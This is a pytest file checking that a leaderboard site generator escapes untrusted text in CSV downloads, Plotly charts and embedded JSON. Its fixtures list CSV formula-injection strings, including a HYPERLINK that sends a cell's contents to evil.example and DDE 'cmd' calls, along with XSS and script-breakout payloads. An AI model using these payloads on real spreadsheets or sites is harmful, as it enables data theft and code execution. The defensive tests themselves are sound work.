"""Text from result files leaves the tool inert: CSV cells are no formulas, Plotly text is no markup, and JSON
embedded in pages cannot close its script element."""

import csv
import io
import json
import re

import pytest

from leaderboard.web import charts
from leaderboard.web.build import build_site
from leaderboard.web.render import csv_text, json_text
from tests.leaderboard.test_hostile import NEW_MODEL, write_results

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_cells_that_start_a_formula_are_quoted_and_numbers_stay_numbers():
    rows = [[formula, -0.25, -3, 1.5, None, True, "plain"] for formula in FORMULAS]
    parsed = _cells(csv_text(["=header", "a", "b", "c", "d", "e", "f"], rows))
    assert parsed[0][0] == "'=header"
    for formula, row in zip(FORMULAS, parsed[1:], strict=True):
        assert row == ["'" + formula.replace("\r", "\n"), "-0.250000", "-3", "1.500000", "", "True", "plain"]


def _assert_no_formula_cells(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a signed number may start with a sign


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """A site built from a real-shaped result whose free text holds formulas."""
    root = tmp_path_factory.mktemp("escaping")

    def edit(data):
        data["model"]["license"] = FORMULAS[0]
        data["model"]["revision"] = FORMULAS[3]
        data["provenance"]["hardware"] = FORMULAS[1]

    write_results(root / "results", edit)
    build_site(root / "results", root / "_site")
    return root / "_site"


def test_downloads_neutralise_formulas_from_result_files(hostile_site):
    board = (hostile_site / "downloads" / "leaderboard.csv").read_text()
    model = (hostile_site / "downloads" / "models" / "org__new-model.csv").read_text()
    for text in (board, model, (hostile_site / "downloads" / "datasets" / "beir__scifact.csv").read_text()):
        _assert_no_formula_cells(text)
    licence = {row[0]: row[3] for row in _cells(board)[1:]}
    assert licence[NEW_MODEL] == "'" + FORMULAS[0]
    model_header, first_row = _cells(model)[:2]
    assert first_row[model_header.index("hardware")] == "'" + FORMULAS[1]
    header, *rows = _cells((hostile_site / "downloads" / "datasets" / "beir__scifact.csv").read_text())
    diffs = [float(row[header.index("baseline_diff")]) for row in rows]  # signed numbers, never quoted
    assert len(diffs) == 2 and min(diffs) == 0.0


MARKUP = ["<b>x</b>", "<img src=x onerror=alert(1)>", "a&amp;b", "</script><!--"]


def test_chart_text_reaches_plotly_as_entities():
    figures = [
        charts.scores_with_ci(MARKUP, [1, 2, 3, 4], [0, 1, 2, 3], [2, 3, 4, 5], [True] * 4, "<i>m</i>", 1.0),
        charts.pvalue_heatmap(MARKUP, [[1.0] * 4] * 4, 0.05, "<u>holm</u>"),
        charts.per_query_boxes(MARKUP, {k: [1, 2, 3, 4] for k in ("q1", "median", "q3", "low", "high", "mean")},
                               "<i>m</i>"),
        charts.wins_ties_losses(MARKUP, [1] * 4, [1] * 4, [1] * 4, "<b>base</b>"),
        charts.model_vs_baseline(MARKUP, [1] * 4, [0] * 4, [2] * 4, [1] * 4, "<b>m</b>", "<b>base</b>"),
        charts.recall_at_scale("<b>d</b>", [1e3, 1e4], [10], {"uniform": [[0.5], [0.4]]}, [(10, 0.5)], 1000,
                               "<b>sdm</b>"),
        charts.pareto_chart(MARKUP, [1e6, 2e6, 3e6, 4e6], [1, 2, 3, 4], [0, 1, 2, 3], [2, 3, 4, 5],
                            [True, True, False, True], "<b>Parameters</b>", "<i>m</i>"),
    ]
    for figure in figures:
        text = json.dumps(figure)
        tags = re.findall(r"<[^<>]*>", text)
        # Only the templates' own markup remains: line breaks and the hover box's <extra>.
        assert set(tags) <= {"<br>", "<extra>", "</extra>", "<extra></extra>"}, tags
    assert "&lt;img src=x onerror=alert(1)&gt;" in json.dumps(figures[0]["data"][0]["y"])
    assert "a&amp;amp;b" in json.dumps(figures[1]["data"][0]["x"])


def test_embedded_json_cannot_close_its_script_element():
    text = json_text({"</script><script>alert(1)</script>": "<!-- \u2028 \u2029 & -->"})
    assert not set(text) & {"<", ">", "&", "\u2028", "\u2029"}
    assert json.loads(text) == {"</script><script>alert(1)</script>": "<!-- \u2028 \u2029 & -->"}


def test_pages_embed_markup_only_as_escaped_json(hostile_site):
    page = (hostile_site / "models" / "org__new-model.html").read_text()
    assert FORMULAS[0] not in page  # the quotes are HTML-escaped in the page
    for block in re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', page, flags=re.S):
        assert "<" not in block and ">" not in block
        json.loads(block)
